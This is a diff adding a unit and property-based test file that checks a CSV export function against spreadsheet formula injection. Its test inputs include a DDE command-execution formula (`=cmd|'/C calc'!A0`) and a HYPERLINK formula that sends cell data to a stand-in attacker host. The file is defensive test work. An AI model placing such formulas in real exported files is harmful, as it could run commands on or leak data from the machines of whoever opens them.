@@ -1,0 +1,56 @@
+import fc from 'fast-check';
+import { expect, it } from 'vitest';
+import { csvLine } from '../../../src/web/server/csv.ts';
+import { hostileTexts } from '../server/hostile-pages.ts';
+
+const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+const texts = [
+  ...beginnings.flatMap((each) => [each, `${each}1+1`, `${each}=1`, `a${each}b`]),
+  `=cmd|'/C calc'!A0`,
+  '=HYPERLINK("https://evil.example?x="&A1;"click")',
+  `x;=cmd|'/C calc'!A0;y`,
+  'x",=1',
+  '";=1',
+  'two\n=1\r\n-2\r@3',
+  ...hostileTexts,
+];
+
+/** How programs read a line: by RFC 4180, and as spreadsheets do whose separator is a semicolon. */
+function cellsOf(line: string, separator: ',' | ';'): string[] {
+  const cells = [''];
+  let isQuoted = false;
+  for (let at = 0; at < line.length; at += 1) {
+    const character = line.charAt(at);
+    const isFirst = cells.at(-1) === '' && line.charAt(at - 1) !== '"';
+    if (character === '"' && isFirst && !isQuoted) isQuoted = true;
+    else if (character === '"' && isQuoted && line.charAt(at + 1) === '"') {
+      cells.push(`${cells.pop()}"`);
+      at += 1;
+    } else if (character === '"' && isQuoted) isQuoted = false;
+    else if (!isQuoted && (character === separator || /[\r\n]/.test(character))) cells.push('');
+    else cells.push((cells.pop() ?? '') + character);
+  }
+  return cells;
+}
+
+const isRun = (cell: string) => /^[=+\-@\t\r＝＋－＠]/.test(cell);
+
+it('begins no cell with what a spreadsheet runs, whichever separator it expects', () => {
+  const check = (text: string) => {
+    const line = csvLine(['1', text, 'end']);
+    for (const separator of [',', ';'] as const)
+      expect([text, cellsOf(line, separator).filter(isRun)]).toEqual([text, []]);
+  };
+  for (const text of texts) check(text);
+  const pieces = fc.constantFrom(...beginnings, ';', ',', '"', "'", ' ', 'a', '1', '\r\n');
+  fc.assert(fc.property(fc.array(pieces, { maxLength: 8 }), (each) => check(each.join(''))));
+});
+
+it('keeps the rest of each text, and every cell in its place', () => {
+  for (const text of texts) {
+    const [first, second = '', ...rest] = cellsOf(csvLine(['1', text, 'end']), ',');
+    expect([first, rest]).toEqual(['1', ['end', '', '']]);
+    expect(second.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
+  }
+  expect(csvLine(['a; b', "it's", 'a-b', 'Say "x"'])).toBe('"a; b","it\'s","a-b","Say ""x"""\r\n');
+});
